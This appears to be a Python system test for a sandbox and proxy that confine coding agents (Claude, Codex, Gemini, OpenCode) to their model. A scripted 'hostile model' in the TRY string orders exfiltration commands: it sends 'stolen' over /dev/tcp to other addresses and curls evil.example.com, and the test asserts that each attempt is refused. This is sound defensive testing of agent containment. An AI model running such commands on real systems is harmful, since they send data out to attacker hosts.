"""Real agents in profile `query`: sandbox, relay and proxy between them and their model."""

import socket
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest

from cmesh.model import Profile, TaskState
from tests.fakes.model_server import ModelServer
from tests.system.daemon.agents import CLAUDE, CODEX, GEMINI, OPENCODE
from tests.system.daemon.conftest import OUTBOUND, MakeMachine
from tests.system.daemon.machine import here

KEY = "sk-ant-builder-0000"
END_LIMIT_S = 100.0
"""Gemini takes its time to leave after a command, and more on a busy machine."""

pytestmark = [pytest.mark.anyio, pytest.mark.system, pytest.mark.timeout(240)]

# What a hostile model orders: this host's own port, a second address, a name, another host.
TRY = """cat deploy.log
for to in 127.0.0.1:{port} 127.0.0.2:8119; do
  timeout 5 bash -c "echo stolen >/dev/tcp/${{to%:*}}/${{to#*:}}" 2>/dev/null && echo REACHED $to
done
curl -sS -m 10 https://evil.example.com/ 2>&1 | head -1
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Agent:
    """How an agent differs from the others here.

    Attributes:
        path: of the model's API below the server's URL.
        argument: what its shell tool calls the command line.
        where: and the directory, where a command does not start in the task's.
    """

    program: Path | None
    path: str
    tool: str
    argument: str
    where: str = ""
    env: str = ""

    def order(self, command: str, place: Path) -> Mapping[str, object]:
        """Return a turn in which the model orders a command in a directory."""
        given = {self.argument: command, "description": "look"}
        return {
            "tool": self.tool,
            "input": given | ({self.where: str(place)} if self.where else {}),
        }


AGENTS: Mapping[str, Agent] = {
    "claude": Agent(
        program=CLAUDE,
        path="",
        tool="$shell",
        argument="command",
        env='env = { CLAUDE_CODE_MAX_RETRIES = "1" }',
    ),
    "codex": Agent(program=CODEX, path="/v1", tool="exec_command", argument="cmd"),
    "gemini": Agent(
        program=GEMINI, path="", tool="run_shell_command", argument="command", where="dir_path"
    ),
    "opencode": Agent(program=OPENCODE, path="/v1", tool="bash", argument="command"),
}


def program_of(name: str) -> Path:
    """Return an agent's program; skips the test where there is none."""
    program = AGENTS[name].program
    if program is None:
        variable = f"CMESH_TEST_{name.upper()}"
        pytest.skip(f"no `{name}`: set {variable}, or install it under .cache/npm")
    return program


def config(name: str, key_file: Path, url: str, place: Path) -> str:
    agent = AGENTS[name]
    return f"""
[runners.{name}]
program = "{program_of(name)}"
key_file = "{key_file}"
base_url = "{url}{agent.path}"
{agent.env}

[[inbound.allow]]
name = "the laptop may look"
peers = ["user:me@example.com"]
operations = ["task"]
profiles = ["query"]
runners = ["{name}"]
paths = ["{place}"]
"""


@pytest.mark.parametrize("name", AGENTS)
async def test_an_agent_in_a_query_reaches_its_model_and_nothing_else(
    make_machine: MakeMachine, model: ModelServer, name: str
) -> None:
    agent = AGENTS[name]
    program_of(name)
    laptop = await make_machine(f"laptop-{name}", OUTBOUND, user=here())
    builder = await make_machine(f"builder-{name}")
    place = builder.directory("app")
    (place / "deploy.log").write_text("ERROR port taken\n", "utf-8")
    key_file = builder.base / "config" / "agent.key"
    key_file.write_text(KEY, "utf-8")
    key_file.chmod(0o600)
    await builder.configure(config(name, key_file, model.url, place))
    await builder.up()
    await laptop.up()
    first = await laptop.delegate(
        builder.name, name, place, prompt="<<fake:hello>>", profile=Profile.QUERY, wait_s=0
    )
    await builder.trust(laptop)
    ended = await laptop.ended(first.task_id, END_LIMIT_S)
    status = await builder.status()
    if "netns" not in status.enforcement:
        assert (ended.state, ended.code) == (TaskState.DENIED, "sandbox_unavailable")
        pytest.skip(f"no sandbox here: {status.enforcement_note}")
    assert ended.state is TaskState.SUCCEEDED, ended.summary
    with socket.create_server(("127.0.0.1", 0)) as other:
        order = TRY.format(port=other.getsockname()[1])
        look = dict(agent.order(order, place))
        model.scripts = {"look": [look, {"text": "because {{last_tool_result}}"}]}
        view = await laptop.delegate(
            builder.name,
            name,
            place,
            prompt="why? <<fake:look>>",
            profile=Profile.QUERY,
            new=True,
            wait_s=0,
        )
        view = await laptop.ended(view.task_id, END_LIMIT_S)
        other.setblocking(False)
        with pytest.raises(BlockingIOError):
            other.accept()
    assert view.state is TaskState.SUCCEEDED, view
    assert view.summary.startswith("because ")
    assert "ERROR port taken" in view.summary
    assert "REACHED" not in view.summary
    assert KEY in model.keys
    rows = await builder.sql(
        "SELECT host, address, verdict, code, bytes_in > 0 FROM connections"
        f" WHERE task_id = '{view.task_id}' ORDER BY seq"
    )
    assert ["127.0.0.1", "127.0.0.1", "allowed", "gateway", True] in rows
    assert ["evil.example.com", "", "refused", "host_refused", None] in rows
    assert {row[1] for row in rows} <= {"", "127.0.0.1"}
